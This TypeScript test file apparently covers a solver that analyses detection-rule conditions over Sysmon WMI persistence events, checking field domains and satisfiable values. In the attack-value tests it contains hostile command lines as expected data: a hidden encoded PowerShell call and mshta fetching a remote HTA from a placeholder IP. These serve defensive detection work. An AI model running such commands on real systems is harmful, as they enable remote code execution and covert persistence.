import type { ConditionName, WmiEventId, WmiField } from '../../lib';
import { recordedText, wmiEvent } from '../../lib/catalog';
import { compileCondition } from '../../lib/engine';
import { Budget } from '../../lib/analysis/values/budget';
import { FieldDomain } from '../../lib/analysis/values/domain';
import { EventSpace } from '../../lib/analysis/program/event-space';
import { FieldFacts } from '../../lib/analysis/values/field-facts';
import { FieldSolver } from '../../lib/analysis/values/field-solver';

type Wanted = readonly [ConditionName, string];

/** The value that the solver finds, after checking that the engine agrees; `none` or `unknown` otherwise. */
function solve(id: WmiEventId, field: WmiField, wanted: readonly Wanted[], unread = false): string {
  const space = new EventSpace(id);
  const budget = new Budget(wanted.length);
  budget.begin();
  const position = space.event.fields.indexOf(field);
  const literals = wanted.map(([condition, value]) =>
    space.literal({ kind: 'Condition', field, condition, value, name: null }, position),
  );
  const domain = space.domains[position];
  const facts = FieldFacts.NONE.with(literals, space);
  if (domain === undefined) {
    throw new RangeError(`event ${String(id)} has no ${field}`);
  }
  const found = facts === null ? 'none' : new FieldSolver(space, budget, unread).solve(domain, facts);
  if (typeof found === 'string') {
    return found;
  }
  for (const [condition, value] of wanted) {
    expect([condition, value, compileCondition(condition, value)(found.folded)]).toEqual([condition, value, true]);
  }
  return found.text;
}

describe('the domain of a field', () => {
  const domain = (id: WmiEventId, field: WmiField): FieldDomain => new FieldDomain(wmiEvent(id), field);

  it.each<[WmiEventId, WmiField, string, string | null]>([
    [19, 'Operation', 'created', 'Created'],
    [19, 'Operation', 'Renamed', null],
    [19, 'EventType', 'WMIFILTEREVENT', 'WmiFilterEvent'],
    [19, 'EventType', 'WmiConsumerEvent', null],
    [19, 'RuleName', '-', '-'],
    [19, 'RuleName', 'T1546.003', null],
    [19, 'UtcTime', '2026-01-15 09:11:12.345', '2026-01-15 09:11:12.345'],
    [19, 'UtcTime', '2026-01-15 09:11:12', null],
    [19, 'UtcTime', '2026-01-15T09:11:12.345', null],
    [19, 'User', '-', '-'],
    [19, 'User', 'a "quoted"\nuser', 'a "quoted"\nuser'],
    [19, 'User', '', null],
    [20, 'Type', 'command line', 'Command Line'],
    [20, 'Type', 'Own Consumer', 'Own Consumer'],
    [20, 'Type', 'an "own" one', null],
    [20, 'Type', '', null],
    [19, 'Name', ' ""', ' ""'],
    [19, 'Name', '"Updater"', null],
    [19, 'Name', ' "Updater', null],
    [19, 'Name', ' "a"b"', null],
    [19, 'Name', ' "a\\"b"', ' "a\\"b"'],
    [19, 'Name', ' "a\\N\\\\N"', ' "a\\n\\\\N"'],
    [19, 'Name', ' "C:\\Windows"', null],
    [19, 'Name', ' "a\nb"', null],
    [19, 'Name', ' "a\r\tb"', ' "a\r\tb"'],
    [19, 'Name', '-', null],
    [21, 'Consumer', ' "CommandLineEventConsumer.Name=\\"a\\""', ' "CommandLineEventConsumer.Name=\\"a\\""'],
    [21, 'Consumer', ' "my_Class9.name=\\"a\\""', ' "my_Class9.Name=\\"a\\""'],
    [21, 'Consumer', ' "\u0080Klässe.Name=\\"a\\""', ' "\u0080Klässe.Name=\\"a\\""'],
    [21, 'Consumer', ' "\u007f.Name=\\"a\\""', null],
    [21, 'Consumer', ' "9Class.Name=\\"a\\""', null],
    [21, 'Consumer', ' ".Name=\\"a\\""', null],
    [21, 'Consumer', ' "Class.Name=\\"\\""', ' "Class.Name=\\"\\""'],
    [21, 'Consumer', ' "Class.Name=\\"a\\"b\\""', ' "Class.Name=\\"a\\"b\\""'],
    [21, 'Consumer', ' "Class.Name=\\"a\\"b"', null],
    [21, 'Consumer', ' "Class.Name=\\"a\\\\\\""', ' "Class.Name=\\"a\\\\\\""'],
    [21, 'Consumer', ' "Class.Name=\\"a\\\\""', null],
    [
      21,
      'Consumer',
      ' "\\\\\\\\HR-001\\\\root\\\\ccm:Class.Name=\\"a\\""',
      ' "\\\\\\\\HR-001\\\\root\\\\ccm:Class.Name=\\"a\\""',
    ],
    [21, 'Consumer', ' "\\\\\\\\.\\\\:Class.Name=\\"a\\""', null],
    [21, 'Consumer', ' "\\\\root\\\\ccm:Class.Name=\\"a\\""', null],
    [21, 'Consumer', ' "\\\\\\\\.\\\\root:.Name=\\"a\\""', null],
    [21, 'Filter', ' "__eventfilter.name=\\"a\\""', ' "__EventFilter.Name=\\"a\\""'],
    [21, 'Filter', ' "CommandLineEventConsumer.Name=\\"a\\""', null],
    [
      21,
      'Filter',
      ' "\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\"a\\""',
      ' "\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\"a\\""',
    ],
  ])('of event %i, %s: %j is written %j', (id, field, text, expected) => {
    expect(domain(id, field).valueOf(text)?.text ?? null).toBe(expected);
  });

  it.each([19, 20, 21] as const)('of event %i has the realistic values in it', (id) => {
    for (const field of wmiEvent(id).fields) {
      const { realistic } = domain(id, field);
      expect(realistic).not.toEqual([]);
      expect(realistic.map(({ text }) => text)).not.toContain(' ""');
      for (const { text } of realistic) {
        expect([field, domain(id, field).valueOf(text)?.text]).toEqual([field, text]);
      }
    }
  });
});

describe('the solver finds the value that an attack would have', () => {
  it.each<[WmiEventId, WmiField, readonly Wanted[], string]>([
    [20, 'Destination', [], recordedText('powershell.exe -NoP -W Hidden -Enc SQBFAFgA')],
    [20, 'Destination', [['excludes', 'powershell']], recordedText('mshta.exe https://203.0.113.7/a.hta')],
    [
      20,
      'Destination',
      [['contains', 'SCNotification']],
      recordedText('powershell.exe -NoP -W Hidden -Enc SQBFAFgA SCNotification'),
    ],
    [20, 'Name', [['is not', ' "Updater"']], recordedText('WindowsUpdateCheck')],
    [20, 'Name', [['contains', 'SCNotification']], ' "SCNotification"'],
    [20, 'Name', [['is', ' "updATER"']], ' "Updater"'],
    [20, 'Name', [['is', ' "Own Name"']], ' "Own Name"'],
    [
      20,
      'Name',
      [
        ['begin with', ' "CCM'],
        ['end with', 'X"'],
      ],
      ' "CCMX"',
    ],
    [21, 'Consumer', [['contains', 'SCNotification']], ' "CommandLineEventConsumer.Name=\\"SCNotification\\""'],
    [20, 'Type', [['excludes any', 'Line;Script']], 'Log File'],
    [19, 'User', [['contains all', 'a;-;B']], '- a B'],
  ])('of event %i, %s %j: %j', (id, field, wanted, expected) => {
    expect(solve(id, field, wanted)).toBe(expected);
  });
});

describe('the solver composes a value, and finds the shortest where it has to search', () => {
  it.each<[WmiEventId, WmiField, readonly Wanted[], string]>([
    [
      19,
      'Name',
      [
        ['less than', ' "b'],
        ['excludes', 'a'],
        ['more than', ' ""'],
      ],
      ' "0"',
    ],
    [
      19,
      'Name',
      [
        ['contains', '\\n'],
        ['excludes', '\\\\'],
        ['excludes', ' \\'],
      ],
      ' "\\n"',
    ],
    [
      19,
      'Name',
      [
        ['image', 'x"'],
        ['excludes', 'xx'],
      ],
      ' "\\\\x"',
    ],
    [
      19,
      'Name',
      [
        ['contains', 'ab'],
        ['excludes', 'ab"'],
        ['excludes', ' "ab'],
      ],
      ' "Updater-ab-"',
    ],
    [
      19,
      'UtcTime',
      [
        ['more than', '2026-06'],
        ['less than', '2026-07'],
        ['contains', ':07:'],
      ],
      '2026-06-10 11:07:11.111',
    ],
    [
      19,
      'User',
      [
        ['contains', '\u{1f600}'],
        ['excludes', ' '],
        ['not begin with', '\u{1f600}'],
      ],
      'CORP\\admin-\u{1f600}-',
    ],
    [
      19,
      'User',
      [
        ['image', 'x'],
        ['is not', 'x'],
        ['more than', 'a'],
        ['less than', 'b'],
      ],
      'a\\x',
    ],
    [
      19,
      'User',
      [
        ['more than', '\ud7ff'],
        ['less than', '\ue000'],
      ],
      '\u{10000}',
    ],
  ])('of event %i, %s %j: %j', (id, field, wanted, expected) => {
    const found = solve(id, field, wanted);
    expect(found).toHaveLength(expected.length);
    expect(found).not.toMatch(/\p{Surrogate}/u);
  });
});

describe('the solver proves that there is no value', () => {
  it.each<[WmiEventId, WmiField, readonly Wanted[]]>([
    [19, 'Name', [['is', 'Updater']]],
    [19, 'Name', [['contains', 'C:\\Windows']]],
    [19, 'Name', [['begin with', 'Updater']]],
    [19, 'Name', [['end with', 'Updater']]],
    [19, 'Name', [['image', 'Updater.exe']]],
    [
      19,
      'Name',
      [
        ['contains', 'ab'],
        ['excludes', 'b'],
      ],
    ],
    [
      19,
      'Name',
      [
        ['contains any', 'a;b'],
        ['excludes any', 'A;B'],
      ],
    ],
    [
      19,
      'Name',
      [
        ['contains all', 'a;b'],
        ['excludes', 'b'],
      ],
    ],
    [
      19,
      'Name',
      [
        ['excludes all', 'a;b'],
        ['contains', 'a'],
        ['contains', 'b'],
      ],
    ],
    [19, 'Name', [['is', '-']]],
    [19, 'Name', [['excludes', '']]],
    [19, 'Name', [['excludes any', 'a;']]],
    [19, 'Name', [['less than', '']]],
    [
      19,
      'Name',
      [
        ['begin with', ' "a'],
        ['begin with', ' "b'],
      ],
    ],
    [
      19,
      'Name',
      [
        ['end with', 'a"'],
        ['not end with', '"'],
      ],
    ],
    [
      19,
      'Name',
      [
        ['more than', ' "b'],
        ['less than', ' "a'],
      ],
    ],
    [19, 'UtcTime', [['less than', '0']]],
    [20, 'Type', [['contains', '"']]],
    [
      21,
      'Filter',
      [
        ['contains', 'CommandLineEventConsumer.Name'],
        ['excludes', '__EventFilter'],
      ],
    ],
    [21, 'Consumer', [['begin with', ' "9']]],
  ])('of event %i, %s %j', (id, field, wanted) => {
    expect(solve(id, field, wanted)).toBe('none');
  });

  it('but for a field that could not be read', () => {
    expect(solve(19, 'Name', [['is', '-']], true)).toBe('-');
    expect(
      solve(
        19,
        'Name',
        [
          ['is not', '-'],
          ['excludes', '"'],
        ],
        true,
      ),
    ).toBe('none');
    expect(solve(19, 'Name', [['excludes', '"']], true)).toBe('-');
  });
});

it('the solver composes a value of texts that overlap, which no search would find', () => {
  const texts = Array.from({ length: 60 }, (_, number) =>
    number.toString(2).padStart(6, '0').replaceAll('0', 'ab').replaceAll('1', 'ba'),
  );
  const wanted = texts.flatMap((text, at): readonly Wanted[] => [
    ['contains', text],
    ['excludes', `${text}${texts[(at * 7) % texts.length] ?? ''}`],
    ['excludes', `${text} `],
  ]);
  expect(texts.filter((text) => !solve(19, 'Name', wanted).includes(text))).toEqual([]);
});

/** More pigeons than holes, each in one of them, no two in the same: there is no value, and with many no short way to see it. */
function pigeons(count: number): readonly Wanted[] {
  const holes = Array.from({ length: count - 1 }, (_, hole) => hole);
  const place = (pigeon: number, hole: number): string => `p${String(pigeon)}h${String(hole)}.`;
  const birds = [...holes, count - 1];
  return [
    ...birds.map((bird): Wanted => ['contains any', holes.map((hole) => place(bird, hole)).join(';')]),
    ...holes.flatMap((hole) =>
      birds.flatMap((one) =>
        birds.slice(0, one).map((other): Wanted => ['excludes all', `${place(one, hole)};${place(other, hole)}`]),
      ),
    ),
  ];
}

it('the solver says unknown, not none, when the budget is spent', () => {
  expect(solve(19, 'Name', pigeons(3))).toBe('none');
  expect(solve(19, 'Name', pigeons(6))).toBe('none');
  expect(solve(19, 'Name', pigeons(12))).toBe('unknown');
});
